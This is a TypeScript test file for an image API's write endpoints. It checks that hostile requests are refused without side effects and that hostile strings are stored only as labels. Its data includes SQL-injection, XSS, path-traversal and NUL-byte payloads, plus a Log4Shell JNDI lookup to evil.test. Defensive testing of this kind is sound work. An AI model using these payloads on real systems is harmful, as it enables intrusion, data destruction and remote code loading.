import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { describe, it } from 'node:test';
import { makeJpeg } from '@deeplens/platform/testing/hostileImages';
import {
  hostileLimits,
  multipart,
  runHostileRequests,
  writeApiHostileRequests,
} from '@deeplens/platform/testing/hostileRequests';
import { adminEmail, adminPassword, startWriteApi, type WriteApiHarness } from './testing/writeApiHarness.ts';
import { writeFootprint } from './testing/writeFootprint.ts';

/** A tenant whose limits the corpus assumes, its admin signed in, and one image of its own. */
async function hostileTenant(api: WriteApiHarness, slug: string) {
  const admin = await api.signIn(adminEmail, adminPassword);
  const created = await api.call('POST', '/v1/tenants', {
    token: admin.access_token,
    json: {
      slug,
      name: slug,
      plan: 'free',
      limits: {
        maxImages: 1000,
        maxBytes: 1_000_000_000,
        maxImageBytes: hostileLimits.maxImageBytes,
        requestsPerMinute: 100_000,
      },
    },
  });
  assert.equal(created.status, 201, await created.clone().text());
  const { id: tenantId } = (await created.json()) as { id: string };
  const email = `owner@${slug}.test`;
  const user = await api.call('POST', '/v1/users', {
    token: admin.access_token,
    json: { email, password: 'a long enough password', role: 'tenant_admin', tenantId },
  });
  assert.equal(user.status, 201, await user.clone().text());
  const owner = await api.signIn(email, 'a long enough password');
  return { tenantId, admin: admin.access_token, owner: owner.access_token };
}

async function uploadRaw(api: WriteApiHarness, token: string, body: { body: Buffer; contentType: string }) {
  const response = await fetch(`${api.baseUrl}/v1/images`, {
    method: 'POST',
    headers: { authorization: `Bearer ${token}`, 'content-type': body.contentType },
    body: body.body,
  });
  const text = await response.text();
  assert.equal(response.status, 202, text);
  return (
    JSON.parse(text) as {
      images: { id: string; filename: string; tags: string[]; attributes: Record<string, string> }[];
    }
  ).images;
}

describe('write API: a corpus of hostile and broken requests', () => {
  it('answers every row with its 4xx as problem+json, keeps answering, and writes nothing', async (t) => {
    const api = await startWriteApi(t, {
      MAX_REQUEST_BYTES: hostileLimits.maxRequestBytes,
      SIGN_IN_ATTEMPTS_PER_MINUTE: 10_000,
    });
    const { tenantId, admin, owner } = await hostileTenant(api, 'hostile');
    const [image] = await uploadRaw(
      api,
      owner,
      multipart([{ name: 'file', filename: 'own.jpg', type: 'image/jpeg', data: await makeJpeg(40, 40, 2) }]),
    );
    const rows = await writeApiHostileRequests({ tenantId, imageId: image!.id, missingId: randomUUID() });
    assert.ok(rows.length >= 200, `${rows.length} rows`);

    const before = await writeFootprint(api.deps.pool, api.config.OBJECT_STORE_DIR);
    const run = await runHostileRequests(api.baseUrl, rows, (as) =>
      as === 'tenant' ? `Bearer ${owner}` : as === 'admin' ? `Bearer ${admin}` : undefined,
    );
    t.diagnostic(`${rows.length} rows by category: ${JSON.stringify(run.sent)}`);
    t.diagnostic(`answers by status: ${JSON.stringify(run.statuses)}`);
    assert.deepEqual(run.failures, []);
    assert.deepEqual(
      await writeFootprint(api.deps.pool, api.config.OBJECT_STORE_DIR),
      before,
      'no refused request wrote anything',
    );
  });

  it('takes traversal, NUL, RTL, emoji and SQL in file names, tags and attributes as labels: accepted, stored verbatim', async (t) => {
    const api = await startWriteApi(t);
    const { owner } = await hostileTenant(api, 'labels');
    const tags = [
      "'; drop table write.aggregates; --",
      '" or 1=1 --',
      '<script>alert(1)</script>',
      '${jndi:ldap://evil.test/a}',
      'שלום',
      '\u202egnp.exe',
      '🙂',
    ];
    const attributes = {
      "'; drop schema write cascade; --": 'x',
      camera: '<img src=x onerror=alert(1)>',
      مفتاح: 'قيمة',
    };
    const names: [string, string][] = [
      ['../../etc/passwd.jpg', 'passwd.jpg'],
      ['..\\..\\windows\\win.ini.jpg', 'win.ini.jpg'],
      ['/etc/shadow', 'shadow'],
      ['..', 'unnamed'],
      ['%2e%2e%2fsecret.jpg', '%2e%2e%2fsecret.jpg'],
      // Control characters cannot stand in a header line; RFC 5987 `filename*` carries them.
      ['evil\u0000.php\u0001.jpg', 'evil.php.jpg'],
      ['photo\u202egpj.exe', 'photo\u202egpj.exe'],
      ['🌅 sunset.jpg', '🌅 sunset.jpg'],
      ["x'; delete from write.outbox; --.jpg", "x'; delete from write.outbox; --.jpg"],
    ];
    let lastId = '';
    for (const [index, [sent, stored]] of names.entries()) {
      const [uploaded] = await uploadRaw(
        api,
        owner,
        multipart([
          {
            name: 'file',
            filename: sent,
            type: 'image/jpeg',
            data: await makeJpeg(32, 32, 100 + index),
            // eslint-disable-next-line no-control-regex -- control characters are what it looks for
            ...(/[\u0000-\u001f]/.test(sent)
              ? {
                  rawHeaders: `Content-Disposition: form-data; name="file"; filename*=UTF-8''${encodeURIComponent(sent)}\r\nContent-Type: image/jpeg`,
                }
              : {}),
          },
          { name: 'tags', data: JSON.stringify(tags) },
          { name: 'attributes', data: JSON.stringify(attributes) },
        ]),
      );
      assert.equal(uploaded!.filename, stored, `${JSON.stringify(sent)} is only a label`);
      assert.deepEqual(uploaded!.tags, tags);
      assert.deepEqual(uploaded!.attributes, attributes);
      lastId = uploaded!.id;
    }
    const patched = await api.call('PATCH', `/v1/images/${lastId}`, {
      token: owner,
      json: { tags: [...tags].reverse(), attributes: { note: "Robert'); drop table students;--" } },
    });
    assert.equal(patched.status, 200, await patched.clone().text());
    assert.deepEqual(((await patched.json()) as { tags: string[] }).tags, [...tags].reverse());
    const stored = await writeFootprint(api.deps.pool, api.config.OBJECT_STORE_DIR);
    assert.equal(stored.usage_images, names.length, 'every upload counted, the tables intact');
  });
});
